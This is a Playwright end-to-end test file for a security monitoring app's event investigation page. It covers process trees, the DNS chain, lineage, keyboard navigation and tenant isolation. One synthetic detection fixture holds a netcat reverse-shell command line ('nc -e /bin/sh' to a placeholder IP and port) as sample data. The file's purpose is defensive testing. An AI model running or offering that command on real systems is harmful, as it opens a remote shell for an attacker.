import { randomBytes } from "node:crypto";
import { expect, test, type APIRequestContext } from "@playwright/test";
import { Client } from "pg";
import { createAgentToken, createTenant, createUser } from "./support/factories";
import { signIn } from "./support/sign-in";

// The investigation view end to end: events go in through the real ingest API, the page is read
// the way an analyst reads it (keyboard included).

async function ingest(request: APIRequestContext, token: string, items: unknown[]) {
  const res = await request.post("/api/v1/ingest/garnet", { headers: { authorization: `Bearer ${token}` }, data: items });
  expect(res.status()).toBe(200);
  expect((await res.json()).rejected).toEqual([]);
}

async function eventId(tenantId: string, sourceId: string): Promise<string> {
  const client = new Client({ connectionString: process.env.DATABASE_URL });
  await client.connect();
  try {
    const res = await client.query<{ id: string }>(`SELECT id FROM events WHERE tenant_id = $1 AND event_key = $2`, [tenantId, `garnet:id:${sourceId}`]);
    return String(res.rows[0].id);
  } finally {
    await client.end();
  }
}

const NAMES = ["146.75.94.208", "dualstack.com.imgix.map.fastly.net", "unsplash.imgix.net", "images.unsplash.com"];

/** A detection whose process sits 22 levels deep, with a flow through a CNAME chain. */
function deepEvent(suffix: string, at: Date, importance = "high") {
  const iso = at.toISOString();
  const ancestry = Array.from({ length: 21 }, (_, i) => ({
    pid: 7001 + i,
    ppid: i === 20 ? 1 : 7002 + i,
    exe: `/usr/bin/level-${i}`,
    comm: `level-${i}`,
    cmd: `level-${i} --depth ${i}`,
  }));
  return {
    id: `deep-${suffix}`,
    kind: "detections",
    created_at: iso,
    agent: { id: `agent-${suffix}`, hostname: "build-7" },
    data: {
      head: { name: "badware_domain_access", importance, description: "Known bad domain contacted" },
      process: { exe: "/usr/bin/deep-tool", cmd: "deep-tool --fetch https://images.unsplash.com/x", pid: 7000, ppid: 7001, uid: 1001, start: iso },
      full_info: { ancestry },
      flow: {
        proto: "TCP",
        ip_version: 4,
        local: { address: "10.1.2.3", port: 50123 },
        remote: { address: "146.75.94.208", port: 443, names: NAMES },
        settings: { direction: "egress", status: "ended" },
      },
    },
  };
}

function childEvent(suffix: string, at: Date) {
  return {
    id: `child-${suffix}`,
    kind: "detections",
    created_at: new Date(at.getTime() + 30_000).toISOString(),
    agent: { id: `agent-${suffix}`, hostname: "build-7" },
    data: {
      head: { name: "reverse_shell", importance: "critical", description: "Shell connected out" },
      process: { exe: "/usr/bin/nc", cmd: "nc -e /bin/sh 203.0.113.7 4444", pid: 7100, ppid: 7000, start: new Date(at.getTime() + 20_000).toISOString() },
    },
  };
}

test("an analyst reads a deep process tree, the DNS chain and the lineage, and follows a badge", async ({ page }) => {
  const tenant = await createTenant("Investigation SOC");
  const analyst = await createUser([{ tenantId: tenant.id, role: "analyst" }]);
  const token = await createAgentToken(tenant.id);
  const suffix = randomBytes(3).toString("hex");
  const at = new Date(Date.now() - 10 * 60_000);
  await ingest(page.request, token, [deepEvent(suffix, at), childEvent(suffix, at)]);
  const deepId = await eventId(tenant.id, `deep-${suffix}`);
  const childId = await eventId(tenant.id, `child-${suffix}`);

  await signIn(page, analyst);
  const back = "q=domain%3Aimages.unsplash.com&range=24h";
  await page.goto(`/events/${deepId}?back=${encodeURIComponent(back)}`);
  await expect(page.getByTestId("event-header")).toContainText("badware_domain_access");
  await expect(page.getByTestId("agent-context")).toContainText("build-7");

  // The tree: 22 levels from level-20 down to the event's own process, which is selected.
  const tree = page.getByRole("tree", { name: "Process tree" });
  const self = tree.locator('[role=treeitem][aria-selected="true"]');
  await expect(self).toContainText("deep-tool");
  await expect(self).toHaveAttribute("aria-level", "22");
  await expect(tree.getByRole("treeitem").first()).toContainText("level-20");
  await expect(tree).toHaveAttribute("data-rows", "23"); // 22 on the path + the child process

  // Keyboard: collapse the event's process, step to its parent, collapse and expand that.
  await self.getByText("deep-tool", { exact: true }).click();
  await page.keyboard.press("ArrowLeft");
  await expect(self).toHaveAttribute("aria-expanded", "false");
  await expect(tree).toHaveAttribute("data-rows", "22");
  await page.keyboard.press("ArrowLeft");
  const parent = tree.locator('[role=treeitem][aria-level="21"]');
  await expect(parent).toBeFocused();
  await page.keyboard.press("ArrowLeft");
  await expect(parent).toHaveAttribute("aria-expanded", "false");
  await expect(tree).toHaveAttribute("data-rows", "21");
  await page.keyboard.press("ArrowRight");
  await expect(self).toBeVisible();
  await page.keyboard.press("Home");
  await expect(tree.getByRole("treeitem").first()).toBeFocused();
  await page.keyboard.press("ArrowLeft"); // collapses the root: one row left
  await expect(tree).toHaveAttribute("data-rows", "1");
  await page.getByRole("button", { name: "Collapse to the path of this event" }).click();
  await expect(self).toBeVisible();

  // The DNS chain, from the queried domain to the IP, joined with the flow and the verdict.
  const chain = page.getByTestId("dns-chain");
  await expect(chain.getByTestId("dns-step")).toHaveText([
    "Queried domainimages.unsplash.com",
    "CNAMEunsplash.imgix.net",
    "CNAMEdualstack.com.imgix.map.fastly.net",
    "IP address146.75.94.208",
  ]);
  await expect(chain.getByTestId("dns-flow")).toContainText("TCP 10.1.2.3:50123 → 146.75.94.208:443");
  await expect(chain.getByTestId("dns-verdict")).toContainText("Allowed");

  // The raw payload, pretty-printed.
  await expect(page.getByTestId("raw-payload")).toContainText('"badware_domain_access"');

  // The lineage after an update is ingested.
  await expect(page.getByTestId("lineage-entry")).toHaveCount(1);
  await ingest(page.request, token, [deepEvent(suffix, at, "critical")]);
  await page.reload();
  await expect(page.getByTestId("lineage-entry")).toHaveCount(2);
  const updated = page.locator('[data-testid=lineage-entry][data-action="updated"]');
  await expect(updated).toContainText("Updated");
  await expect(updated).toContainText("high");
  await expect(updated).toContainText("critical");

  // The child process carries the other event: its badge opens it, keeping the way back.
  await tree.getByTestId("process-event-badge").filter({ hasText: "reverse_shell" }).click();
  await expect(page).toHaveURL(new RegExp(`/events/${childId}\\?back=`));
  await expect(page.getByTestId("event-header")).toContainText("reverse_shell");
  await expect(tree.locator('[role=treeitem][aria-selected="true"]')).toHaveAttribute("aria-level", "23");

  // Escape returns to the search the analyst came from.
  await page.getByTestId("event-header").click();
  await page.keyboard.press("Escape");
  await expect(page).toHaveURL(/\/events\?q=domain%3Aimages\.unsplash\.com&range=24h$/);
});

test("another tenant's event is not found, and agent tokens cannot read events", async ({ page, request }) => {
  const owner = await createTenant("Owner SOC");
  const token = await createAgentToken(owner.id);
  const suffix = randomBytes(3).toString("hex");
  await ingest(request, token, [deepEvent(suffix, new Date())]);
  const id = await eventId(owner.id, `deep-${suffix}`);

  const stranger = await createTenant("Stranger SOC");
  const manager = await createUser([{ tenantId: stranger.id, role: "manager" }], "Mia Manager");
  await signIn(page, manager);
  const res = await page.goto(`/events/${id}`);
  expect(res?.status()).toBe(404);
  await expect(page.getByTestId("event-not-found")).toBeVisible();
  expect((await page.request.get(`/api/v1/events/${id}`)).status()).toBe(404);
  expect((await page.request.get(`/api/v1/events/${id}/process-tree`)).status()).toBe(404);

  for (const path of ["", "/payload", "/process-tree", "/dns-chain", "/lineage"]) {
    const denied = await request.get(`/api/v1/events/${id}${path}`, { headers: { authorization: `Bearer ${token}` } });
    expect(denied.status()).toBe(403);
  }
});

test("a manager reads an event; a 1,000-process tree expands and collapses", async ({ page }) => {
  const tenant = await createTenant("Wide Tree SOC");
  const manager = await createUser([{ tenantId: tenant.id, role: "manager" }], "Mia Manager");
  const token = await createAgentToken(tenant.id);
  const suffix = randomBytes(3).toString("hex");
  const at = Date.now() - 5 * 60_000;
  // pid 20000 is the root; every process has ten children: 1 + 10 + 100 + 889 = 1,000.
  const items = Array.from({ length: 1000 }, (_, i) => ({
    id: `wide-${suffix}-${i}`,
    kind: "infos",
    created_at: new Date(at + i * 100).toISOString(),
    agent: { id: `wide-agent-${suffix}`, hostname: "wide-1" },
    data: {
      head: { name: "process_exec", importance: "low", description: `exec ${i}` },
      process: { exe: `/usr/bin/worker-${i}`, pid: 20_000 + i, ppid: i === 0 ? 1 : 20_000 + Math.floor((i - 1) / 10) },
    },
  }));
  await ingest(page.request, token, items);
  const rootId = await eventId(tenant.id, `wide-${suffix}-0`);

  await signIn(page, manager);
  await page.goto(`/events/${rootId}`);
  const tree = page.getByRole("tree", { name: "Process tree" });
  await expect(page.getByTestId("process-tree-summary")).toContainText("1,000 processes");
  await expect(tree.locator('[role=treeitem][aria-selected="true"]')).toContainText("worker-0");

  type Timing = { commit: number; painted: number };
  // Click → the tree's DOM updated (React committed), measured in the page. The next paint also
  // waits for the browser's frame, which a loaded CI machine delays; it is reported, not asserted.
  const timeClick = (name: string) =>
    page.evaluate(async (label): Promise<Timing> => {
      const button = document.querySelector<HTMLButtonElement>(`button[aria-label="${label}"]`)!;
      const tree = document.querySelector("[role=tree]")!;
      const t0 = performance.now();
      const committed = new Promise<number>((resolve) => {
        const observer = new MutationObserver(() => {
          observer.disconnect();
          resolve(performance.now() - t0);
        });
        observer.observe(tree, { attributes: true, attributeFilter: ["data-rows"] });
      });
      button.click();
      const commit = await committed;
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
      return { commit, painted: performance.now() - t0 };
    }, name);

  // Timed, and reported as an annotation: a test asserts behaviour; npm run bench -- process-tree
  // measures the same work (building the tree and its rows) against its target.
  const expands: Timing[] = [];
  const resets: Timing[] = [];
  for (let round = 0; round < 3; round++) {
    expands.push(await timeClick("Expand all processes"));
    await expect(tree).toHaveAttribute("data-rows", "1000"); // no level is wide enough for "+N more"
    resets.push(await timeClick("Collapse to the path of this event"));
    await expect(tree).toHaveAttribute("data-rows", String(1 + 10));
  }
  const median = (xs: Timing[]) => [...xs].sort((a, b) => a.commit - b.commit)[1];
  const ms = (t: Timing) => `${t.commit.toFixed(0)} ms (painted after ${t.painted.toFixed(0)} ms)`;
  test.info().annotations.push({ type: "timing", description: `expand all ${ms(median(expands))}, reset ${ms(median(resets))}` });

  // Only the rows in view are in the DOM; the keyboard still reaches the last one.
  await page.getByRole("button", { name: "Expand all processes" }).click();
  expect(await tree.getByRole("treeitem").count()).toBeLessThan(100);
  await tree.locator('[role=treeitem][aria-selected="true"]').getByText("worker-0", { exact: true }).click();
  await page.keyboard.press("End");
  await expect(tree.locator("[role=treeitem]:focus")).toContainText("worker-110");
  await page.keyboard.press("Home");
  await expect(tree.locator("[role=treeitem]:focus")).toContainText("worker-0");
});
